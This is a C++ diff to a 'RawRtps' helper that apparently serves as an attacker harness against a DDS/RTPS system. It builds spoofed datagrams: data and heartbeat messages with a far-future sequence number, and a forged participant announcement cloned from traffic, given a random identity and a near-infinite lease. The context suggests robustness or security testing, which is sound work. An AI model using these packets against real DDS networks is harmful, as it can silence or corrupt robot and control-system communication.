@@ -26,7 +26,101 @@ sockaddr_in loopback(std::uint16_t port)
     return address;
 }
 
+constexpr std::uint64_t kMuchLater = std::uint64_t{1} << 40U;
+
+/// Little-endian.
+template <typename Number>
+void append(RawRtps::Datagram& datagram, Number number)
+{
+    for (std::size_t i = 0; i < sizeof(number); ++i)
+    {
+        datagram.push_back(static_cast<std::uint8_t>(static_cast<std::uint64_t>(number) >> 8 * i));
+    }
+}
+
+/// High half first.
+void append_sequence(RawRtps::Datagram& datagram, std::uint64_t sequence)
+{
+    append(datagram, static_cast<std::uint32_t>(sequence >> 32U));
+    append(datagram, static_cast<std::uint32_t>(sequence));
+}
+
+/// Up to the identity of the writer: a submessage of that kind and with so many bytes after its
+/// own header, to all of its readers.
+RawRtps::Datagram begin_message(const RawRtps::Guid& writer, std::uint8_t kind, std::uint8_t flags,
+                                std::uint16_t bytes)
+{
+    RawRtps::Datagram datagram{'R', 'T', 'P', 'S', 2, 1, 1, 16};
+    datagram.insert(datagram.end(), writer.begin(), writer.begin() + 12);
+    datagram.insert(datagram.end(), {kind, flags});
+    append(datagram, bytes);
+    if (kind == 0x15) // No flags more, and no inline QoS.
+    {
+        append(datagram, std::uint16_t{0});
+        append(datagram, std::uint16_t{16});
+    }
+    append(datagram, std::uint32_t{0});
+    datagram.insert(datagram.end(), writer.begin() + 12, writer.end());
+    return datagram;
+}
+
 } // namespace
+
+RawRtps::Datagram RawRtps::later_motion(const Guid& writer, std::uint64_t host_epoch)
+{
+    constexpr std::uint16_t kPayload = 4 + 8 + 8 + 8 + 4 + 4;
+    Datagram datagram = begin_message(writer, 0x15, 0x05, 20 + kPayload);
+    append_sequence(datagram, kMuchLater);
+    datagram.insert(datagram.end(), {0, 1, 0, 0}); // Little-endian CDR.
+    append(datagram, host_epoch);
+    append(datagram, std::uint64_t{1}); // Serial.
+    append(datagram, std::uint64_t{1}); // Time.
+    append(datagram, std::uint32_t{1}); // Objects that there are.
+    append(datagram, std::uint32_t{0}); // That have moved.
+    return datagram;
+}
+
+RawRtps::Datagram RawRtps::later_heartbeat(const Guid& writer, std::uint64_t /*host_epoch*/)
+{
+    static std::uint32_t count = 1'000'000;
+    Datagram datagram = begin_message(writer, 0x07, 0x01, 28);
+    append_sequence(datagram, kMuchLater);
+    append_sequence(datagram, kMuchLater);
+    append(datagram, ++count);
+    return datagram;
+}
+
+RawRtps::Datagram RawRtps::another_participant()
+{
+    constexpr std::array<std::uint8_t, 4> kFinder{0, 1, 0, 0xC2}; // Who tells of participants.
+    constexpr std::array<std::uint8_t, 4> kLease{2, 0, 8, 0};
+    const auto holds = [](const Datagram& heard, const auto& bytes)
+    { return std::search(heard.begin(), heard.end(), bytes.begin(), bytes.end()) != heard.end(); };
+    const auto model =
+        std::ranges::find_if(heard_, [&](const Datagram& heard)
+                             { return holds(heard, kFinder) && holds(heard, kLease); });
+    if (model == heard_.end())
+    {
+        std::fprintf(stderr, "attacker: heard no participant\n");
+        std::exit(2);
+    }
+    Datagram datagram = *model;
+    const std::vector<std::uint8_t> old(datagram.begin() + kPrefixAt,
+                                        datagram.begin() + kPrefixAt + 12);
+    std::array<std::uint8_t, 12> prefix{};
+    std::ranges::generate(prefix, [this] { return static_cast<std::uint8_t>(random_()); });
+    prefix[0] = 1; // As Cyclone's do without security.
+    for (auto at = datagram.begin();
+         (at = std::search(at, datagram.end(), old.begin(), old.end())) != datagram.end();)
+    {
+        at = std::ranges::copy(prefix, at).out;
+    }
+    const auto lease =
+        std::search(datagram.begin(), datagram.end(), kLease.begin(), kLease.end()) + 4;
+    std::fill(lease, lease + 8, std::uint8_t{0xFF});
+    lease[3] = 0x7F;
+    return datagram;
+}
 
 /// The last of the ports where participants are looked for; they are taken from the first one on.
 RawRtps::RawRtps(std::uint32_t domain) : socket_(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0))
